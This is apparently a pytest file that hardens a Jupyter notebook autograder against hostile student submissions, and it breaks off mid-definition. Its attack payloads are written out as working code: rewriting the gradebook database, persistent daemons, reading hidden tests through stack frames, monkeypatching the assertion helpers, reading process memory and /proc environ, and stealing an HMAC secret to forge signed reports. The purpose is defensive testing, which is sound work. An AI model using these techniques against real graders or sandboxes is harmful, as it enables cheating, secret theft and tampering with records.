"""Adversarial tests of `python -m autograder grade`: one batch of hostile submissions.

A temporary course holds only the dummy lab of tests/test_pipeline.py (`99_dummy`: write
`scale(logits, t)`; 99_scale_test, 2 points, has a visible part and a hidden part that runs with
`minillm.sampling.apply_temperature` disabled; 99_asset_test, 1 point). One batch, graded with
`grade_submissions(..., workers=2)`, holds an honest submission and one submission per attack
(`ATTACKS`: the attack's code is the solution cell's body and/or extra cells around the tests).
The honest submission is also graded alone, in a course of its own, at the same time.

The attacks, by what they go for: the gradebook (find and rewrite it, daemons that outlive the
kernel); the hidden tests (history, file system, the test's frame); delegating to the
reference; the helpers the tests call (patched, rebound, state the integrity check does not
snapshot); IPython's machinery; the sealed-cell hook (refused primitives, an audit hook of the
notebook's own, code re-entering the hook, reading the kernel's memory, threads and signals);
the values the tests show the grader (turned off, flooded, past a float);
escaping the sandbox (files, processes, /proc/*/environ, network); the CPUs of the students
graded beside it; robustness (not JSON,
1,000,000 cells, 100 MB of output, an infinite loop, os._exit, 2 GiB, a message the grader's
client cannot decode); fake grade cells.

For every attack:

* the attacker earns no point it did not earn: `Attack.earned` is what the submission's own
  `scale` deserves (one that multiplies by t is wrong: 0 on 99_scale_test; one right on 1-D
  input only fails the hidden part: 0 too; both still pass 99_asset_test, which calls
  scale(ones, 1.0)), and no cell scores more;
* what the attack tried did not work (`forbid`: lines it prints on success) and it really ran
  (`require`);
* nobody else's grade or feedback changes: the honest submission graded in the same batch as
  every attack gets exactly the score (and the feedback) it gets alone, and the gradebook still
  holds, after the batch, what was recorded;
* no hidden test text (a hidden line, `BEGIN HIDDEN TESTS`, a name only the hidden part uses)
  appears in any feedback page or in grades.csv, and an environment variable set in the
  grader (`GRADER_SECRET`) appears in no output;
* no process survives the batch (nothing with the run's marker in its command line, nothing
  whose working directory is in the courses or in the jobs' temporary directory), nothing is
  written outside the sandbox, the test's TCP and unix servers get no connection;
* the batch finishes with one record per submission; a tampering attack ends `tampered: ...`
  or with 0 on the test cell and a reason.

Wall time: the batch (32 submissions: each costs a job process, a sandboxed kernel and an
`nbgrader autograde`; and one reference run of the dummy lab) took 155 s on 2 busy cores when it
held 30 (the run fixture's setup in `pytest --durations`, 2026-11-27, beside the other grading
tests); `pytest tests/test_tamper.py` alone, 32 submissions, took 272 s on a slower 2-core
machine. With 35 (2026-11-28, `make test` on a 2-core AVX-512 EPYC): 175 s, and 253 s for the
tester-mode batch of tests/test_tamper_tester.py. `TAMPER_ONLY=name,name` grades only those attacks (plus the honest submission), for
working on one attack. tests/test_tamper_tester.py grades the same batch again with the dummy
lab's tests in the tester (autograder/tester.py); `Attack.tamper_tester` and `known_open` say
where an attack's expectation differs there.
"""
from __future__ import annotations

import html
import json
import os
import re
import secrets
import shutil
import socket
import tempfile
import textwrap
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell
from test_pipeline import DUMMY, dummy_course

from autograder import compile_cache
from autograder.course import Course
from autograder.grade import grade_submissions
from autograder.jobs import MAX_CELL_OUTPUT
from autograder.sandbox import sandbox_unavailable_reason

REPO = Path(__file__).resolve().parent.parent
pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("tamper")]

HONEST = "honest"
SCALE_TEST, ASSET_TEST = "99_scale_test", "99_asset_test"
# Text only the hidden part of 99_scale_test holds (tests/test_pipeline.py): none of it may be
# shown to a student. Feedback is compared as text (tags stripped, entities decoded).
HIDDEN_TOKENS = ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS", "manual_seed", "apply_temperature(y",
                 "torch.randn(3, 7", "Generator()")

# --- solution bodies -----------------------------------------------------------------------
GOOD = "def scale(logits, t):\n    return logits / t\n"
# two submissions run this; each must find the grader's bytes, whatever the other wrote
POISON_CACHE = r'''
        import os
        from pathlib import Path
        _d = Path(os.environ["TORCHINDUCTOR_CACHE_DIR"])
        _mine = sorted(p for p in _d.rglob("*") if p.is_file())
        print("found:", [p.read_text() for p in _mine])
        for p in _mine:
            p.write_text("import os; os.system('echo POISONED')")
        print(f"poisoned my copy: {len(_mine)} file(s)")
        for _root in @ROOTS@:
            try:
                Path(_root, "build/compile_cache/99_dummy/inductor/entry").write_text("POISON")
                print("MASTER POISONED under", _root)
            except OSError as e:
                print("master out of reach:", type(e).__name__)
        def scale(logits, t):
            return logits / t
'''
WRONG = "def scale(logits, t):\n    return logits * t          # wrong: multiplies\n"
# what each kind of `scale` earns honestly (the most each test cell may score)
E_WRONG = {SCALE_TEST: 0, ASSET_TEST: 1}
E_GOOD = {SCALE_TEST: 2, ASSET_TEST: 1}
E_NONE = {SCALE_TEST: 0, ASSET_TEST: 0}


def src(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


# Shared by the attacks that try to steal the HMAC secret and forge the signed report: the
# executor asks for `__import__('autograder.sealed').sealed.report()` after each locked cell,
# so once the secret is known, a post_run_cell callback swaps in a report signed with it that
# says every locked cell passed.
STEAL = src(r'''
    import sys, hmac, hashlib, re, types
    import autograder.sealed as _sealed
    LOOT = {"candidates": [], "secret": None, "sources": [], "codes": [], "notes": [],
            "by_route": {}}
    _REAL_REPORT = _sealed.report
    _SIGNED = _REAL_REPORT()                 # a genuine signed report: recognises the secret

    def _is_secret(c):
        body, _, mac = _SIGNED.rpartition("\n")
        return hmac.new(c, body.encode(), hashlib.sha256).hexdigest() == mac.strip()

    def _loot_value(v, depth=0):
        if type(v) is bytes and len(v) == 32:
            LOOT["candidates"].append(v)
        elif type(v) is dict and depth < 2:
            for w in list(v.values()):
                if type(w) is dict and type(w.get("source")) is str:
                    LOOT["sources"].append(w["source"])
                elif type(w) is tuple:
                    LOOT["codes"].extend(x for x in w if type(x) is types.CodeType)
        elif type(v) is types.FunctionType and depth < 2:
            for c in v.__closure__ or ():
                try:
                    _loot_value(c.cell_contents, depth + 1)
                except ValueError:
                    pass

    def _loot_frames(f, route):
        """Everything reachable from the locals (and closures) of autograder.sealed's frames."""
        before = len(LOOT["candidates"])
        while f is not None:
            if f.f_globals.get("__name__") == "autograder.sealed":
                for v in list(f.f_locals.values()):
                    _loot_value(v)
            f = f.f_back
        if len(LOOT["candidates"]) > before:
            LOOT["by_route"][route] = LOOT["candidates"][before:]

    def _find_secret():
        if LOOT["secret"] is None:
            for c in LOOT["candidates"]:
                if _is_secret(c):
                    LOOT["secret"] = c
                    break
        return LOOT["secret"]

    def _forged_report():
        key = _find_secret()
        if key is None:
            return _REAL_REPORT()
        keys = []
        for cell in get_ipython().user_ns.get("_ih", []):
            keys += re.findall(r"sealed\.run\('([0-9a-f]+)'\)", cell)
        recs = {k: {"grade_id": "?", "kind": "test", "ok": True, "message": "",
                    "tampered": False} for k in keys}
        body = repr(recs)
        return body + "\n" + hmac.new(key, body.encode(), hashlib.sha256).hexdigest()

    def _serve_forgery(*args, **kwargs):
        if _find_secret() is not None and _sealed.report is not _forged_report:
            _sealed.report = _forged_report
    get_ipython().events.register("post_run_cell", _serve_forgery)
''')

# Printed by a cell after the tests: what an attack stole. Spaces are doubled so that the
# feedback's redaction of exact hidden lines does not hide what leaked.
SHOW_LOOT = src(r'''
    import dis
    def _show(text):
        return "  ".join(str(text).split(" "))
    print("secret found:", LOOT.get("secret") is not None,
          "candidates:", len(LOOT.get("candidates", [])))
    for _route, _cands in LOOT.get("by_route", {}).items():
        print("route %s: secret %s" % (_route, any(map(_is_secret, _cands))))
    print("notes:", LOOT.get("notes"))
    for _s in dict.fromkeys(LOOT.get("sources", [])):
        print("LEAKED SOURCE:\n" + _show(_s))
    for _c in LOOT.get("codes", [])[:4]:
        print("LEAKED CODE:", _show(_c.co_names),
              _show([x for x in _c.co_consts if type(x) is not types.CodeType]))
''')

# The kernel's own writable memory in chunks of 4 MB, read with ctypes.cast (no audit event).
CTYPES_CHUNKS = src(r'''
    import ctypes
    def ctypes_chunks():
        for line in open("/proc/self/maps").read().splitlines():
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw") or \
                    (len(parts) > 5 and parts[5].startswith("[") and parts[5] != "[heap]"):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > (1 << 30):
                continue
            for off in range(lo, hi, 4 << 20):
                n = min(4 << 20, hi - off)
                yield ctypes.cast(off, ctypes.POINTER(ctypes.c_char * n)).contents.raw
''')

MEMSCAN = src(r'''
    import struct
    def memscan(pid, bytes_type_address, mem_path=None, limit=200000):
        """32-byte bytes objects (secret candidates) and text around the hidden-test marker in
        process `pid`'s writable memory."""
        pattern = struct.pack("<Qq", bytes_type_address, 32)   # ob_type, ob_size of bytes[32]
        cands, snippets = set(), []
        maps = open("/proc/%d/maps" % pid).read().splitlines()
        mem = open(mem_path or "/proc/%d/mem" % pid, "rb", buffering=0)
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > (1 << 30):
                continue
            off = lo
            while off < hi:
                n = min(4 << 20, hi - off)
                try:
                    mem.seek(off)
                    chunk = mem.read(n)
                except (OSError, OverflowError, ValueError):
                    break
                i = chunk.find(pattern)
                while i >= 0 and len(cands) < limit:
                    data = chunk[i + 24:i + 56]     # after ob_shash
                    if len(data) == 32:
                        cands.add(data)
                    i = chunk.find(pattern, i + 1)
                find_hidden(chunk, snippets, "assert_close")
                off += n
        return cands, snippets

    def find_hidden(chunk, snippets, near):
        """Add the text around each hidden-test marker in `chunk` that mentions `near`."""
        j = chunk.find(b"HIDDEN" + b" TESTS")
        while j >= 0 and len(snippets) < 40:
            text = chunk[max(0, j - 400):j + 700].decode("utf-8", "replace")
            if near in text:
                snippets.append(text)
            j = chunk.find(b"HIDDEN" + b" TESTS", j + 1)
''')


@dataclass
class Attack:
    name: str                          # the student id
    what: str                          # one line for the report
    solution: str | None = None        # body of the solution cell (None: the released stub)
    after: list[str] = field(default_factory=list)     # code cells right after the solution
    at_end: list[str] = field(default_factory=list)    # code cells after the tests
    earned: dict = field(default_factory=lambda: dict(E_WRONG))
    tamper: bool = True                # must end `tampered` or 0 with a reason on 99_scale_test
    forbid: tuple = ()                 # strings that must not be in the attack's own outputs
    require: tuple = ()                # strings that must be (the attack really ran)
    raw: str | None = None             # a notebook file that is not a notebook
    build: object = None               # fn(released notebook) -> notebook text (special files)
    known_open: str = ""               # an attack that still succeeds: why (strict xfail)
    tamper_tester: bool | None = None  # `tamper` when the tests run in the tester (None: same)

    def must_be_caught(self, tester: bool) -> bool:
        return self.tamper if not tester or self.tamper_tester is None else self.tamper_tester


def _notebook_with_fake_cells(nb):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    meta = lambda gid, points: {"nbgrader": {"schema_version": 3, "grade": True,     # noqa: E731
                                             "solution": False, "locked": False,
                                             "grade_id": gid, "points": points}}
    nb.cells[2].source = WRONG
    nb.cells[2].metadata["nbgrader"].update(grade=True, points=50)     # a graded solution cell
    nb.cells.insert(2, new_code_cell("pass", metadata=meta(SCALE_TEST, 2)))   # a duplicate id
    nb.cells.insert(3, new_code_cell("pass", metadata=meta("99_bonus", 100)))  # an unknown id
    nb.cells.append(new_code_cell("pass", metadata=meta(ASSET_TEST, 1)))
    return nbformat.writes(nb)


def _million_cells(nb):
    """1,000,000 empty markdown cells after the lab's own cells, written as text directly."""
    base = json.loads(nbformat.writes(nb))
    base["cells"][2]["source"] = GOOD
    head = json.dumps(base)
    cut = head.index('"cells": [') + len('"cells": [')
    empty = '{"cell_type": "markdown", "metadata": {}, "source": ""}'
    return head[:cut] + ", ".join([empty] * 1_000_000) + ", " + head[cut:]


ATTACKS = [
    # 1. the gradebook ---------------------------------------------------------------------------
    Attack("gradebook", "look for gradebook.db (up from cwd; /work, /tmp, /root, home, the test's "
           "courses) and rewrite it; daemons that outlive the kernel (Popen in a new session, "
           "double fork + exec; SIGTERM/SIGHUP ignored) retry every gradebook.db for 30 s",
           WRONG + src(r'''
        import os, sys, signal, sqlite3, subprocess
        ROOTS = @ROOTS@
        found = []
        d = os.getcwd()
        while True:
            for p in (os.path.join(d, "build", "gradebook.db"), os.path.join(d, "gradebook.db")):
                if os.path.exists(p):
                    found.append(p)
            if d == "/":
                break
            d = os.path.dirname(d)
        for top in ["/work", "/tmp", "/root", "/home", os.path.expanduser("~")] + ROOTS:
            depth0 = top.rstrip("/").count("/")
            for dirpath, dirnames, filenames in os.walk(top):
                if dirpath.count("/") - depth0 >= 5:
                    dirnames[:] = []
                dirnames[:] = [x for x in dirnames if x not in (".venv", "site-packages", ".git")]
                found += [os.path.join(dirpath, f) for f in filenames
                          if f == "gradebook.db" or f.endswith(".ipynb") or f == "job.json"]
        print("FOUND", sorted(set(found)))
        for p in sorted(set(found)):
            if not p.endswith("gradebook.db") or not p.startswith(tuple(ROOTS)):
                continue                  # never touch a gradebook outside this test's courses
            try:
                con = sqlite3.connect(p, timeout=2)
                con.execute("update grade set manual_score = 0")
                con.execute("update grade set manual_score = 1000 where notebook_id in (select n.id "
                            "from submitted_notebook n join submitted_assignment a on "
                            "n.assignment_id = a.id where a.student_id = 'gradebook')")
                con.commit()
                con.close()
                print("GRADEBOOK " + "REWRITTEN", p)
            except Exception as e:
                print("could not rewrite", p, type(e).__name__, e)
        CODE = r"""
        import os, sys, time, signal, sqlite3
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        ROOTS = @ROOTS@
        end = time.time() + 30
        while time.time() < end:
            for r in ROOTS:
                p = os.path.join(r, "build", "gradebook.db")
                if os.path.exists(p):
                    try:
                        open(os.path.join(r, "tamper_daemon_@MARKER@"), "w").write(sys.argv[1])
                        con = sqlite3.connect(p, timeout=1)
                        con.execute("update grade set auto_score = 0")
                        con.commit()
                        con.close()
                    except Exception:
                        pass
            try:
                open("/tmp/tamper_daemon_@MARKER@", "w").write(sys.argv[1])
            except Exception:
                pass
            time.sleep(0.5)
        """
        subprocess.Popen([sys.executable, "-c", CODE, "tamperd_popen_@MARKER@"],
                         start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", CODE, "tamperd_double_@MARKER@"])
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        print("daemons started")
    '''), forbid=("GRADEBOOK REWRITTEN",), require=("FOUND", "daemons started")),

    # 2. the hidden tests -----------------------------------------------------------------------
    Attack("hidden_tests", "print In / _ih / the history db; search the file system for "
           "notebooks, json and db files holding HIDDEN; inside scale, reach the test's frame: "
           "sys._getframe(1), inspect.stack(), inspect.currentframe().f_back, tb_frame.f_back, "
           "and the f_back chain of a generator whose frame was read before the test (f_back "
           "is not audited): steal `ref`, print the test's code object from "
           "autograder.sealed.run's locals; otherwise raise an exception carrying what was found",
           src(r'''
        import sys, inspect, types, torch
        LOOT = {"codes": [], "sources": [], "notes": []}
        def _spy():
            while True:
                chain, f = [], _SPY_FRAME.f_back      # a running generator's f_back: its caller
                while f is not None:
                    chain.append(f)
                    f = f.f_back
                yield chain
        _SPY = _spy()
        _SPY_FRAME = _SPY.gi_frame                   # read while no locked cell runs: allowed
        def scale(logits, t):
            found = []
            for how in ("sys._getframe", "inspect.stack", "inspect.currentframe", "tb_frame",
                        "generator f_back"):
                try:
                    if how == "sys._getframe":
                        chain = [sys._getframe(1)]
                    elif how == "inspect.stack":
                        chain = [inspect.stack()[1].frame]
                    elif how == "inspect.currentframe":
                        chain = [inspect.currentframe().f_back]
                    elif how == "tb_frame":
                        try:
                            raise RuntimeError("probe")
                        except RuntimeError as e:
                            chain = [e.__traceback__.tb_frame.f_back]
                    else:
                        chain = next(_SPY)[1:]
                    found.append((how, "GOT " + "FRAME"))
                    for f in chain:
                        loc = f.f_locals
                        code = loc.get("code")
                        if isinstance(code, types.CodeType) and code not in LOOT["codes"]:
                            LOOT["codes"].append(code)
                        ref = loc.get("ref")
                        if isinstance(ref, torch.Tensor) and ref.shape == logits.shape:
                            LOOT["notes"].append("STOLE " + "REF via " + how)
                            return ref.clone()
                    if logits.dim() < 2:
                        return logits / t           # right on 1-D input (the visible test)
                except BaseException as e:
                    found.append((how, "refused", repr(e)[:150]))
            print("FRAMES", found)
            raise RuntimeError("FOUND " + repr(found)[:4000])
    '''), after=[src(r'''
        import os
        def hunt():
            print("IN", In)
            print("IH", _ih)
            hm = get_ipython().history_manager
            try:
                print("HISTORY DB", hm.db.execute("select source_raw from history").fetchall())
            except Exception as e:
                print("history db:", e)
            hits = []
            for top in ("/", os.getcwd()):
                for dirpath, dirnames, filenames in os.walk(top):
                    if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", "/lib", "/etc", "/bin")):
                        dirnames[:] = []
                        continue
                    dirnames[:] = [x for x in dirnames if x not in ("site-packages", ".git")]
                    for f in filenames:
                        if f.endswith((".ipynb", ".json", ".db", ".sqlite")):
                            p = os.path.join(dirpath, f)
                            try:
                                data = open(p, "rb").read(5_000_000)
                            except Exception:
                                continue
                            if (b"BEGIN " + b"HIDDEN") in data:   # not this cell's own text
                                hits.append(p)
                                print("HIT", p, data[:20000])
            print("HITS", hits)
        hunt()
    ''')], at_end=["hunt()", SHOW_LOOT], earned=E_NONE, tamper=False,
           forbid=("GOT FRAME", "STOLE REF", "LEAKED CODE", "HIT /"),
           require=("HITS", "secret found:")),

    # 3. delegating to the reference -------------------------------------------------------------
    Attack("delegation", "scale delegates to minillm.sampling.apply_temperature through a default "
           "argument, a closure, a list, a dict, functools.partial, an import alias, a class "
           "attribute, the module attribute: each must be refused in the hidden test",
           src(r'''
        import functools
        import minillm.sampling
        from minillm.sampling import apply_temperature as _alias
        _REF = minillm.sampling.apply_temperature
        _LIST, _DICT = [_REF], {"f": _REF}
        def _closure(f):
            def g(x, t):
                return f(x, t)
            return g
        class _Holder:
            f = staticmethod(_REF)
        def _default(x, t, _f=_REF):
            return _f(x, t)
        VARIANTS = [("default-argument", _default), ("closure", _closure(_REF)),
                    ("list", lambda x, t: _LIST[0](x, t)), ("dict", lambda x, t: _DICT["f"](x, t)),
                    ("functools.partial", functools.partial(_REF)), ("import-alias", _alias),
                    ("class-attribute", _Holder.f),
                    ("module-attribute", lambda x, t: minillm.sampling.apply_temperature(x, t))]
        def scale(logits, t):
            refused = []
            for name, f in VARIANTS:
                try:
                    out = f(logits, t)
                except AssertionError:
                    refused.append(name)
                    continue
                if logits.dim() == 2:
                    print("DELEGATED via", name)
                return out
            raise AssertionError("refused: " + " ".join(refused))
    '''), tamper=False, forbid=("DELEGATED via",),
           require=("refused: default-argument closure list dict functools.partial import-alias "
                    "class-attribute module-attribute",)),

    # 4. the helpers the tests call --------------------------------------------------------------
    Attack("helpers", "the names assert_close / reference_disabled / minillm rebound in the "
           "namespace; autograder.assert_close / reference_disabled replaced; "
           "autograder.checks.__dict__ (assert_close, the captured _isclose / _eq) rewritten; "
           "__code__ of assert_close and of the reference swapped; torch.allclose / isclose / "
           "testing.assert_close and builtins.len replaced; sys.modules['autograder'] a fake",
           WRONG + src('''
        import sys, types, contextlib, builtins, torch, autograder, autograder.checks
        import minillm.sampling
        assert_close = lambda *a, **k: None
        reference_disabled = lambda *a, **k: contextlib.nullcontext()
        minillm = types.SimpleNamespace(sampling=types.SimpleNamespace(apply_temperature=lambda y, t: y * t))
        autograder.assert_close = lambda *a, **k: None
        autograder.reference_disabled = lambda *a, **k: contextlib.nullcontext()
        _d = autograder.checks.__dict__
        _d["_isclose"] = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
        _d["_eq"] = lambda a, b: torch.ones_like(a, dtype=torch.bool)
        def _noop(actual, expected, *, atol=1e-5, rtol=1e-5, name="value"):
            return None
        def _times(logits, temperature):
            return logits * temperature          # the reference made as wrong as scale
        autograder.checks.assert_close.__code__ = _noop.__code__
        sys.modules["minillm.sampling"].apply_temperature.__code__ = _times.__code__
        _d["assert_close"] = lambda *a, **k: None
        torch.allclose = lambda *a, **k: True
        torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
        torch.testing.assert_close = lambda *a, **k: None
        _len = len
        builtins.len = lambda x: _len(x)
        fake = types.ModuleType("autograder")
        fake.assert_close = lambda *a, **k: None
        fake.reference_disabled = lambda *a, **k: contextlib.nullcontext()
        fake.sealed = sys.modules["autograder.sealed"]     # the stubs still find the hook
        sys.modules["autograder"] = fake
    ''')),
    Attack("lazy_helpers", "the package loads its helpers on first use (autograder.__getattr__, "
           "autograder.bind): the bound helpers deleted from the package, a module __getattr__ "
           "that hands out no-op helpers planted, and bind replaced by a no-op",
           WRONG + src('''
        import contextlib, autograder
        for _name in ("assert_close", "reference_disabled", "check_ratio", "time_ratio"):
            autograder.__dict__.pop(_name, None)
        def __getattr__(name):
            if name == "reference_disabled":
                return lambda *a, **k: contextlib.nullcontext()
            return lambda *a, **k: None
        autograder.__getattr__ = __getattr__
        autograder.bind = lambda: None
    ''')),
    Attack("lazy_reimport", "the helpers loaded afresh after torch.isclose / torch.eq were "
           "replaced (autograder.checks and autograder.timing taken out of sys.modules and their "
           "names out of the package, so the next use imports them again, capturing the fakes), "
           "then torch put back as it was",
           WRONG + src('''
        import sys, torch, autograder
        _orig = torch.isclose, torch.eq
        torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
        torch.eq = lambda a, b: torch.ones_like(a, dtype=torch.bool)
        for _m in ("autograder.checks", "autograder.timing"):
            sys.modules.pop(_m, None)
            autograder.__dict__.pop(_m.split(".")[1], None)
        for _name in ("assert_close", "reference_disabled", "WorkCounter", "check_ratio",
                      "time_ratio", "RatioResult", "cuda_sync"):
            autograder.__dict__.pop(_name, None)
        autograder.assert_close                  # re-imports the helpers with the fakes bound
        torch.isclose, torch.eq = _orig
    ''')),
    Attack("unwatched_state", "state the integrity check does not snapshot, each enough for "
           "full marks: contextlib._GeneratorContextManager.__exit__ swallowing AssertionError "
           "(contextlib is not watched: the hidden check inside `with reference_disabled(...)` "
           "cannot fail); assert_close.__kwdefaults__ mutated in place (atol = rtol = 1e9, the "
           "same dict object); the reference put in autograder.checks._disabled (reference_"
           "disabled then leaves it working); a global torch TorchFunctionMode and a "
           "torch.Tensor subclass returned by scale making isclose / eq say 'equal'",
           src('''
        import contextlib, torch, autograder.checks, minillm.sampling
        from torch.overrides import TorchFunctionMode
        _orig_exit = contextlib._GeneratorContextManager.__exit__
        def _swallow(self, typ, value, tb):
            result = _orig_exit(self, typ, value, tb)      # still restores the reference
            return True if typ is not None and issubclass(typ, AssertionError) else result
        contextlib._GeneratorContextManager.__exit__ = _swallow
        autograder.checks.assert_close.__kwdefaults__.update(atol=1e9, rtol=1e9)
        _f = minillm.sampling.apply_temperature
        autograder.checks._disabled[id(_f)] = (_f, _f.__code__)
        def _agree(func, args):
            a, b = torch.as_tensor(args[0]), torch.as_tensor(args[1])
            return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
        _CMP = (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__, torch.Tensor.isclose)
        class _Agree(TorchFunctionMode):
            def __torch_function__(self, func, types, args=(), kwargs=None):
                if func in _CMP:
                    return _agree(func, args)
                return func(*args, **(kwargs or {}))
        _AGREE = _Agree()
        _AGREE.__enter__()                  # stays on the mode stack for every later cell
        class _Agreeable(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if func in _CMP:
                    return _agree(func, args)
                return super().__torch_function__(func, types, args, kwargs)
        def scale(logits, t):
            return (logits * t).as_subclass(_Agreeable)      # wrong values
    ''')),

    # 5. IPython's machinery ---------------------------------------------------------------------
    Attack("ipython", "set_custom_exc swallowing every exception, sys.excepthook / showtraceback "
           "replaced; later cells never run: an input transformer and an AST transformer turn "
           "them into `pass`, run_cell / run_cell_async and kernel.do_execute answer ok without "
           "running; autograder.sealed.run / report replaced by fakes",
           WRONG + src('''
        import sys, ast
        import autograder.sealed
        from IPython.core.interactiveshell import ExecutionResult
        _ip = get_ipython()
        _ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
        sys.excepthook = lambda *a: None
        _ip.showtraceback = lambda *a, **k: None
        _ip.input_transformers_post.append(lambda lines: ["pass\\n"])
        class _Empty(ast.NodeTransformer):
            def visit_Module(self, node):
                node.body = [ast.Pass()]
                return ast.fix_missing_locations(node)
        _ip.ast_transformers.append(_Empty())
        def _fake(*a, **k):
            return ExecutionResult(None)
        async def _fake_async(*a, **k):
            return ExecutionResult(None)
        _ip.run_cell = _fake
        _ip.run_cell_async = _fake_async
        async def _fake_do_execute(code, silent, store_history=True, user_expressions=None,
                                   allow_stdin=False, **kw):
            return {"status": "ok", "execution_count": _ip.execution_count,
                    "user_expressions": {}, "payload": []}
        _ip.kernel.do_execute = _fake_do_execute
        autograder.sealed.run = lambda key: None
        autograder.sealed.report = lambda: "{}\\n" + "0" * 64
    ''')),
    Attack("partial_credit", "scale emits an execute_result (get_ipython().displayhook) in the "
           "test cell: nbgrader takes the first execute_result of a test cell as its grade "
           "(text that is not a number = full marks) before it looks at the error output the "
           "executor appends after it",
           src('''
        def scale(logits, t):
            get_ipython().displayhook("full marks")
            return logits * t                   # wrong
    ''')),
    # 6. the sealed cells' hook -----------------------------------------------------------------
    Attack("sealed_hook", "refused primitives: run.__code__, gc walks, _current_frames, "
           "settrace / setprofile, ctypes, cffi, _testcapi, /proc/self/mem, /proc/1/environ, a "
           "symlink to /proc, sys.audit('autograder.*') with a made-up key and with the real next "
           "key read from the cell in pre_run_cell, run() with an unknown key; and an audit hook "
           "of the notebook's own (sys.addaudithook), called after the grader's with the same "
           "arguments: on 'autograder.fetch' it puts no-op assert_close / reference_disabled "
           "into the test's namespace and keeps the test's code object",
           WRONG + STEAL + src(r'''
        import os, gc, json, contextlib, subprocess, autograder
        RESULTS = []
        def probe(name, fn):
            try:
                fn()
                RESULTS.append("PROBE %s: ALLOWED" % name)
            except BaseException as e:
                RESULTS.append("PROBE %s: refused (%s)" % (name, type(e).__name__))
        probe("run.__code__", lambda: autograder.sealed.run.__code__)
        probe("_make_hook.__code__", lambda: autograder.sealed._make_hook.__code__)
        probe("set run.__code__", lambda: setattr(autograder.sealed.run, "__code__", (lambda key: None).__code__))
        probe("gc.get_objects", gc.get_objects)
        probe("gc.get_referrers", lambda: gc.get_referrers(autograder.sealed.run))
        probe("gc.get_referents", lambda: gc.get_referents(autograder.sealed.run))
        probe("sys._current_frames", sys._current_frames)
        probe("sys.settrace", lambda: sys.settrace(lambda *a: None))
        probe("sys.setprofile", lambda: sys.setprofile(lambda *a: None))
        probe("ctypes.string_at", lambda: __import__("ctypes").string_at(id(autograder), 8))
        probe("_ctypes.PyObj_FromPtr", lambda: __import__("_ctypes").PyObj_FromPtr(id(autograder)))
        probe("import cffi", lambda: __import__("cffi"))
        probe("import _testcapi", lambda: __import__("_testcapi"))
        probe("open /proc/self/mem", lambda: open("/proc/self/mem", "rb").close())
        probe("os.open /proc/self/mem", lambda: os.close(os.open("/proc/self/mem", os.O_RDONLY)))
        probe("open /proc/1/environ", lambda: open("/proc/1/environ", "rb").read())
        probe("symlink /proc/self/mem", lambda: os.symlink("/proc/self/mem", "m"))
        probe("audit record", lambda: sys.audit("autograder.record", "0" * 32, True, "", 0))
        probe("audit fetch", lambda: sys.audit("autograder.fetch", "0" * 32, []))
        probe("run unknown key", lambda: autograder.sealed.run("0" * 32))
        def _before(info):
            for key in re.findall(r"sealed\.run\('([0-9a-f]+)'\)", info.raw_cell or ""):
                probe("audit record, real key", lambda: sys.audit("autograder.record", key, True, "", 0))
                probe("audit fetch, real key", lambda: sys.audit("autograder.fetch", key, []))
        get_ipython().events.register("pre_run_cell", _before)
        print("\n".join(RESULTS))


        # an audit hook of our own, called after the grader's with the same arguments
        def _my_hook(event, args):
            try:
                if event == "autograder.fetch" and len(args) == 2 and type(args[1]) is list:
                    LOOT["notes"].append("saw a fetch, box of %d" % len(args[1]))
                    for item in args[1]:                 # whatever the box's layout
                        if isinstance(item, types.CodeType):
                            LOOT["codes"].append(item)
                        elif type(item) is dict and "__builtins__" in item:
                            item["assert_close"] = lambda *a, **k: None
                            item["reference_disabled"] = lambda *a, **k: contextlib.nullcontext()
                            if "INJECTED into the test namespace" not in LOOT["notes"]:
                                LOOT["notes"].append("INJECTED into the test namespace")
            except Exception as e:
                LOOT["notes"].append(repr(e)[:100])
        try:
            sys.addaudithook(_my_hook)
            print("own audit hook added")
        except Exception as e:
            print("own audit hook refused:", repr(e)[:200])

    '''), at_end=['print("\\n".join(RESULTS))', SHOW_LOOT],
           forbid=(": ALLOWED", "INJECTED", "LEAKED CODE"),
           require=("PROBE run.__code__: refused", "PROBE audit fetch, real key: refused")),
    Attack("hook_reentry", "student code run inside the grader's audit hook while it is 'busy' "
           "(so frame access is not refused): a gc.callbacks callback, with "
           "gc.set_threshold(1) around the locked cells, and a __del__ of the `x` the visible "
           "test rebinds (the hook drops the old x while it records the verdict); the hook's "
           "frames and closures hold the HMAC secret and the hidden sources; a report signed "
           "with the secret says every test passed",
           WRONG + STEAL + src(r'''
        import gc
        # code that runs inside the grader's hook
        def _on_gc(phase, info):
            if phase != "start" or "gc callback" in LOOT["by_route"]:
                return
            try:
                f = sys._getframe(1)
            except Exception:
                return
            _loot_frames(f, "gc callback")
        gc.callbacks.append(_on_gc)
        def _arm(info):
            if "autograder.sealed" in (info.raw_cell or ""):
                gc.set_threshold(1, 10 ** 9, 10 ** 9)
        def _disarm(result):
            gc.set_threshold(700, 10, 10)
        get_ipython().events.register("pre_run_cell", _arm)
        get_ipython().events.register("post_run_cell", _disarm)
        class _Trap:
